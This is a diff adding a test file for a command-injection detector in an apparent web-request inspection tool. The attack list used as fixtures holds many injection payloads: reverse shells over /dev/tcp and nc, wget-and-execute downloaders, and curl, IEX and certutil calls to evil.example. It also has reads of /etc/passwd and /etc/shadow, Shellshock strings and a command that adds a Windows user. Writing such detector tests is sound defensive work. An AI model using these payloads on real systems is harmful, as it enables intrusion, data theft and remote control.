@@ -1,0 +1,148 @@
+import assert from "node:assert/strict";
+import { inspect } from "../request/mod.ts";
+import { findingsIn, pointsIn, rulesIn } from "../testing.ts";
+import { rce } from "./detect.ts";
+
+const ATTACKS: readonly string[] = [
+  ";id",
+  "a;id",
+  "127.0.0.1;whoami",
+  "127.0.0.1|cat /etc/group",
+  "x.jpg||ping -c 5 10.0.0.9",
+  "8.8.8.8&&ls -la /var",
+  "foo & nslookup evil.example &",
+  "127.0.0.1\nwhoami",
+  "name';curl http://evil.example/x;'",
+  'name";uname -a;"',
+  "a)|/usr/bin/id;",
+  "$(sleep 5)",
+  "x$(wget http://evil.example/a)",
+  "`id`",
+  "host`curl evil.example`",
+  "<(cat /etc/passwd)",
+  ";cat$IFS/etc/passwd",
+  ";{cat,/etc/passwd}",
+  "|c''at /etc/passwd",
+  "|w\\ho\\am\\i",
+  ";/b?n/c?t /etc/passwd",
+  "/???/??t /???/p??s??",
+  "echo K$((41+22))K",
+  "bash -i >& /dev/tcp/10.1.1.1/4444 0>&1",
+  "nc -e /bin/sh 10.1.1.1 4444",
+  "cat /etc/shadow",
+  "cd /tmp; wget http://192.0.2.7/x.sh; chmod 777 x.sh; ./x.sh",
+  ";wget http://192.0.2.7/mips -O /tmp/m;sh /tmp/m",
+  "() { :;}; /bin/bash -c 'id'",
+  "() { ignored; }; echo vulnerable; :;",
+  "system('id')",
+  'exec("cat /etc/passwd")',
+  "& net user eve secret /add",
+  "| dir c:\\",
+  "&& type C:\\boot.ini",
+  "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACk=",
+  "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
+  "%COMSPEC% /c whoami",
+  "& certutil -urlcache -f http://evil.example/a.exe a.exe",
+  "; perf-tool --version",
+  "x\\n/bin/ls -al\\n",
+  "';sleep 10;'",
+  "|+dir+c:%5c",
+];
+
+const INNOCENT: readonly string[] = [
+  "R&D; id cards are ready",
+  "Tom & Jerry; who is who",
+  "cats; dogs; more",
+  "| id | name |\n| --- | --- |\n| 1 | Ann |",
+  "name|id|date",
+  "name;id",
+  "a|b|c",
+  "status:open|closed",
+  "Run `deno info` to see it",
+  "Use `ls -la` and then `cat file.txt` to look at what is in it",
+  "Install it with curl -fsSL https://example.org/install.sh | sh please",
+  "tsc && vite build",
+  "eslint . | tee out.log",
+  "docker run -v $(pwd):/app node npm test",
+  "npm ci && npm test",
+  "0 5 * * 1-5 /opt/jobs/report.sh",
+  "Doctor | Who",
+  "Name | ID",
+  "mir & dir",
+  "color: red; top: 5px; content: none",
+  "https://example.org/?a=1&id=5&sort=asc&ping=1",
+  "a=1&sort&id",
+  "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101",
+  "{\n  user {\n    id\n    name\n  }\n}",
+  "$(document).ready(function () { init(); })",
+  "function () { return 1; }",
+  "const f = () => { x: 1; };",
+  "the DB is down; who's on call?",
+  "ping me later; echo this; wget it?",
+  "Please find attached; more details follow",
+  "&quot;id&quot; and &#39;ls&#39;",
+  "AT&T; Q&A; B&W",
+  "price < 5 && size > 3",
+  "if (a || b) { run(); }",
+  "What does rm do? I typed it once and it was not nice",
+  "C:\\Users\\Anna\\notes.txt",
+  "It costs $5; set it aside",
+  "text/html;q=0.9, image/webp",
+  "Hello,\nI like this.\nmore later\nsort it out\nwho knows\nbye",
+  "$IFS is the field separator",
+  "print('hello')",
+  "call('id')?",
+];
+
+Deno.test("rce detects commands that break out of a value", () => {
+  for (const text of ATTACKS) assert.equal(pointsIn(rce, text), 5, text);
+  assert.equal(ATTACKS.length, 43);
+});
+
+Deno.test("rce lets honest text pass at level 1", () => {
+  for (const text of INNOCENT.slice(0, -1)) assert.deepEqual(rulesIn(rce, text), [], text);
+  assert.equal(INNOCENT.length, 42);
+});
+
+Deno.test("rce reports a command line without a break-out at level 2", () => {
+  assert.deepEqual(rulesIn(rce, "ls -la /home"), []);
+  assert.deepEqual(rulesIn(rce, "ls -la /home", 2), ["rce.bare-command"]);
+});
+
+Deno.test("rce names the rule of each family", () => {
+  const rows: readonly (readonly [string, string])[] = [
+    [";id", "rce.separator"],
+    ["$(id)", "rce.substitution"],
+    [";cat${IFS}/etc/hosts", "rce.disguise"],
+    ["x; cat /etc/shadow", "rce.hostile-command"],
+    ["exec 5<>/dev/tcp/10.0.0.1/99", "rce.reverse-shell"],
+    ["$((3*4))", "rce.arithmetic-probe"],
+    ["() { :; }; ls", "rce.shellshock"],
+    ["shell_exec('id')", "rce.function-call"],
+    ["%comspec% /c dir", "rce.windows-syntax"],
+    ["iex (iwr https://evil.example/a)", "rce.powershell"],
+  ];
+  for (const [text, rule] of rows) assert.ok(rulesIn(rce, text).includes(rule), `${rule}: ${text}`);
+  assert.equal(rows.length, 10);
+});
+
+Deno.test("rce takes a command in a command parameter for an attack", () => {
+  const request = inspect({ method: "GET", path: "/shell", query: "cmd=ls+-la", headers: [] });
+  assert.deepEqual(rce.detect(request).map((finding) => finding.rule), ["rce.command-parameter"]);
+});
+
+Deno.test("rce lets the scripts of a package.json pass", () => {
+  const body = JSON.stringify({ scripts: { clean: "rm -rf dist; mkdir dist", test: "node a.js && git push --tags" } });
+  const headers: [string, string][] = [["content-type", "application/json"]];
+  const request = inspect({ method: "POST", path: "/packages", query: "", headers, body });
+  assert.deepEqual(rce.detect(request).filter((finding) => finding.level === 1), []);
+});
+
+Deno.test("rce marks the bytes as they were sent", () => {
+  const query = "q=host%3Bcat%20%2Fetc%2Fpasswd";
+  const request = inspect({ method: "GET", path: "/", query, headers: [] });
+  const [finding] = rce.detect(request);
+  const field = request.fields[finding!.evidence!.field]!;
+  assert.equal(field.raw.slice(finding!.evidence!.start, finding!.evidence!.end), "%3Bcat%20%2Fetc%2Fpasswd");
+  assert.equal(findingsIn(rce, "plain").length, 0);
+});
